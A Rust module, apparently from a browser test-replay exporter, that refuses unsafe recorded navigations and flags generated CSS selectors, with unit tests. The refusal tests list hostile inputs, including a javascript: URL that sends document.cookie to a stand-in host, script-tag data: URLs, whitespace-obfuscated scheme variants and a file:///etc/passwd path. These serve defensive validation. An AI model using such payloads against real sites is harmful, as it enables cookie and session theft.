//! What the export refuses to write as a step, whoever recorded the run: a navigation that is
//! not to a web page (it would run in the replay's browser, in the page's origin, with its
//! cookies), and a CSS selector built on an id or class that looks generated (it would differ
//! at the replay and time out without a word). A refused step is a gap: the test fails there,
//! saying why.

use url::Url;

/// Why a recorded navigation URL is not gone to, or `None` when a replay may go there: an
/// absolute `http(s)` URL, a relative one (resolved against Playwright's `baseURL`), or exactly
/// `about:blank`. The URL is parsed as the browser and Node parse it (WHATWG: leading spaces
/// and controls stripped, tabs and line breaks removed), so `java\tscript:` is `javascript:`.
pub(crate) fn refused_navigation(url: &str) -> Option<&'static str> {
    if url == "about:blank" {
        return None;
    }
    if url.chars().any(|c| c.is_control() || c.is_whitespace()) {
        return Some("the recorded URL holds spaces or control characters");
    }
    match Url::parse(url) {
        Ok(u) if matches!(u.scheme(), "http" | "https") => None,
        Ok(u) if matches!(u.scheme(), "javascript" | "vbscript") => {
            Some("a script URL would run in the page's origin, with its cookies, at the replay")
        }
        Ok(u) if u.scheme() == "data" => {
            Some("a data: URL would load a document the run did not come from")
        }
        Ok(_) => Some("only http(s), relative and about:blank navigations are replayed"),
        Err(url::ParseError::RelativeUrlWithoutBase) => None,
        Err(_) => Some("the recorded URL does not parse"),
    }
}

/// True when `css` uses an id or class a build tool or framework made up (the same rule as the
/// page agent's `looksGenerated`, capture/src/direct/agent.js): React's `:r1:`, CSS-in-JS and
/// CSS modules (`css-1q2w3e`, `sc-…`, `Button_primary__3xK9a`), and any part of at least four
/// characters mixing two or more digits with letters (`r-7f3a9c`) or four digits.
pub(crate) fn generated_selector(css: &str) -> bool {
    identifiers(css).any(looks_generated)
}

/// The `#id`, `.class` and `[attr="…"]` identifiers of a selector (escapes kept).
fn identifiers(css: &str) -> impl Iterator<Item = &str> {
    let simple = css.match_indices(['#', '.']).map(move |(at, _)| {
        let rest = &css[at + 1..];
        let mut end = 0;
        let mut escaped = false;
        for (i, c) in rest.char_indices() {
            let ident = c.is_ascii_alphanumeric() || matches!(c, '-' | '_') || !c.is_ascii();
            if escaped || ident {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else {
                break;
            }
            end = i + c.len_utf8();
        }
        &rest[..end]
    });
    let quoted = css
        .split("=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next());
    simple.chain(quoted)
}

fn looks_generated(id: &str) -> bool {
    const PREFIXES: [&str; 6] = ["css-", "sc-", "jsx-", "emotion-", "styled-", "svelte-"];
    let lower = id.to_ascii_lowercase();
    if id.contains([':', '«', '»']) || id.contains("__") {
        return true;
    }
    if PREFIXES.iter().any(|p| lower.starts_with(p)) {
        return true;
    }
    id.split(['-', '_', '.']).any(|part| {
        let digits = part.chars().filter(char::is_ascii_digit).count();
        let letters = part.chars().filter(char::is_ascii_alphabetic).count();
        part.chars().count() >= 4 && ((digits >= 2 && letters >= 1) || digits == part.len())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_web_pages_are_gone_to() {
        for ok in [
            "http://127.0.0.1:8080/login",
            "https://shop.test/cart",
            "HTTPS://shop.test/",
            "/relative/path",
            "relative",
            "?q=1",
            "about:blank",
        ] {
            assert_eq!(refused_navigation(ok), None, "{ok}");
        }
        for refused in [
            "javascript:fetch('//evil.test/?c='+document.cookie)",
            "JavaScript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "java\tscript:alert(1)",
            " javascript:alert(1)",
            "\u{1}javascript:alert(1)",
            "file:///etc/passwd",
            "about:srcdoc",
            "chrome://settings",
            "blob:https://a.test/1",
            "http://[::1",
        ] {
            assert!(refused_navigation(refused).is_some(), "{refused:?}");
        }
        assert!(refused_navigation("javascript:x")
            .unwrap()
            .contains("script URL"));
        assert!(refused_navigation("data:,x").unwrap().contains("data:"));
    }

    #[test]
    fn generated_ids_and_classes_are_refused() {
        for generated in [
            "#r-7f3a9c",
            ".Button_primary__3xK9a",
            "#\\:r1\\:",
            ".css-1q2w3e",
            ".sc-AxjAm",
            "#ember123",
            "#row-20241",
            "#main > div.jsx-2718281828",
            "input[name=\"field-8c1e2f\"]",
        ] {
            assert!(generated_selector(generated), "{generated}");
        }
        for stable in [
            "#email",
            "#main-nav > ul > li:nth-of-type(2)",
            "input[name=\"nickname\"]",
            "#step2",
            "#col-12",
            "#h1-title",
            "#x86_64",
            "iframe",
            "#utf8-box",
            "#links > a:nth-of-type(1)",
        ] {
            assert!(!generated_selector(stable), "{stable}");
        }
    }
}
